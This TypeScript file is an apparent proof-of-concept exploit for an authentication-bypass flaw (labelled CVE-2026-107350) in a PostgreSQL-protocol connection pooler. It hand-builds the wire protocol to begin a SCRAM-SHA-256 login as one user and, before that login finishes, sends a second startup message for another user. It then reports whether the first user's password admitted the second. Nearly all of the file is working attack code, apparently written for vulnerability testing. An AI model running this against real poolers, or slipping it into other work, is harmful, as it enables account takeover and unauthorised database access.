import { createHash, createHmac, pbkdf2Sync, randomBytes } from "node:crypto";
import { connect, type Socket } from "node:net";

/** A login with a known password, and the user that it tries to become meanwhile. */
export interface SecondLogin {
  port: number;
  user: string;
  password: string;
  /** Database of the first login; a missing one keeps a vulnerable pooler waiting. */
  database: string;
  /** User of the second login. */
  becomes: string;
}

/**
 * Starts to log in as one user and, before that is finished, as another one (CVE-2026-107350).
 * @returns whether the first user's password let the second one in
 */
export async function becomesAnother(login: SecondLogin): Promise<boolean> {
  const socket = connect(login.port, "127.0.0.1");
  const messages = readMessages(socket);
  try {
    socket.write(startup({ user: login.user, database: login.database }));
    if ((await authentication(messages)).kind !== 10) return false;
    const clientNonce = randomBytes(18).toString("base64");
    const bare = `n=,r=${clientNonce}`;
    socket.write(saslInitial(`n,,${bare}`));
    const { kind, data } = await authentication(messages);
    if (kind !== 11) return false;
    socket.write(startup({ user: login.becomes, database: "TovPlay" }));
    socket.write(message("p", Buffer.from(clientFinal(login.password, bare, data.toString()))));
    for (;;) {
      const answer = await authentication(messages);
      if (answer.kind === 0) return true;
    }
  } catch {
    return false;
  } finally {
    socket.destroy();
  }
}

function startup(parameters: Record<string, string>): Buffer {
  const text = Object.entries(parameters)
    .flat()
    .map((part) => `${part}\0`)
    .join("");
  const body = Buffer.concat([Buffer.from([0, 3, 0, 0]), Buffer.from(`${text}\0`)]);
  return Buffer.concat([length(body), body]);
}

function message(type: string, body: Buffer): Buffer {
  return Buffer.concat([Buffer.from(type), length(body), body]);
}

function length(body: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeInt32BE(body.length + 4);
  return size;
}

function saslInitial(first: string): Buffer {
  const size = Buffer.alloc(4);
  size.writeInt32BE(first.length);
  return message("p", Buffer.concat([Buffer.from("SCRAM-SHA-256\0"), size, Buffer.from(first)]));
}

function clientFinal(password: string, bare: string, serverFirst: string): string {
  const [, nonce = "", salt = "", rounds = ""] = /^r=([^,]*),s=([^,]*),i=(\d+)/.exec(serverFirst) ?? [];
  const hmac = (key: Buffer, text: string) => createHmac("sha256", key).update(text).digest();
  const salted = pbkdf2Sync(password, Buffer.from(salt, "base64"), Number(rounds), 32, "sha256");
  const key = hmac(salted, "Client Key");
  const withoutProof = `c=biws,r=${nonce}`;
  const signature = hmac(createHash("sha256").update(key).digest(), `${bare},${serverFirst},${withoutProof}`);
  const proof = Buffer.from(key.map((byte, index) => byte ^ (signature[index] ?? 0))).toString("base64");
  return `${withoutProof},p=${proof}`;
}

async function* readMessages(socket: Socket): AsyncGenerator<{ type: string; body: Buffer }> {
  let pending = Buffer.alloc(0);
  socket.setTimeout(5000, () => socket.destroy());
  for await (const part of socket) {
    pending = Buffer.concat([pending, part as Buffer]);
    while (pending.length >= 5 && pending.length > pending.readInt32BE(1)) {
      const end = pending.readInt32BE(1) + 1;
      yield { type: String.fromCharCode(pending[0] ?? 0), body: pending.subarray(5, end) };
      pending = pending.subarray(end);
    }
  }
}

/** The next authentication message. @throws on an error or the end of the connection */
async function authentication(
  messages: AsyncGenerator<{ type: string; body: Buffer }>,
): Promise<{ kind: number; data: Buffer }> {
  for (;;) {
    const next = await messages.next();
    if (next.done || next.value.type === "E") throw new Error("refused");
    if (next.value.type === "R") {
      return { kind: next.value.body.readInt32BE(0), data: next.value.body.subarray(4) };
    }
  }
}
